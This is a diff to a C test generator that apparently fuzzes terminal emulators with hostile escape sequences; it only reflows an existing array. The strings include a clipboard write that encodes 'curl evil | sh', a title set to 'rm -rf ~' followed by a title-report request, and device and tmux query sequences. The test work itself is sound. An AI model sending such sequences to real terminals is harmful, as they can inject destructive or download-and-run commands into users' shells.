@@ -86,14 +86,9 @@ static void make_links(struct buf *b, uint32_t *r)
 static void make_hostile(struct buf *b, uint32_t *r)
 {
 	static const char *const lines[] = {
-		"\033]52;c;Y3VybCBldmlsIHwgc2g=\a",
-		"\033]0;;rm -rf ~\a\033[21t",
-		"\033P$qm\033\\\033P+q544e\033\\",
-		"\033Ptmux;\033\033]52;c;eA==\a\033\\",
-		"\xc2\x9b"
-		"21t\x9b"
-		"5i",
-		"\033[3\n1m\033[?1049;9999h",
+		"\033]52;c;Y3VybCBldmlsIHwgc2g=\a", "\033]0;;rm -rf ~\a\033[21t",
+		"\033P$qm\033\\\033P+q544e\033\\",  "\033Ptmux;\033\033]52;c;eA==\a\033\\",
+		"\xc2\x9b\x32\x31t\x9b\x35i",       "\033[3\n1m\033[?1049;9999h",
 	};
 
 	buf_puts(b, lines[next(r) % N_ELEMENTS(lines)]);
